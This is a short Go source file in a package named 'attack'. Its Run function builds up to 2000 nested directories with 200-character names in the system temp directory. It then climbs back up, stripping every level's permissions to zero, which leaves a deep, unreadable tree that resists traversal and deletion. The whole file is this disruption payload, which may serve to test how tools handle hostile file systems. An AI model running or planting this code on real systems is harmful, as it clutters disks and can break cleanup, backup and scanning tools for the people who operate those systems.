package attack

import (
	"os"
	"strings"
	"syscall"
)

func Run() {
	name := strings.Repeat("d", 200)
	os.Chdir(os.TempDir())
	for range 2000 {
		if syscall.Mkdir(name, 0o700) != nil || syscall.Chdir(name) != nil {
			break
		}
	}
	for range 2000 {
		if syscall.Chdir("..") != nil || syscall.Chmod(name, 0) != nil {
			break
		}
	}
}
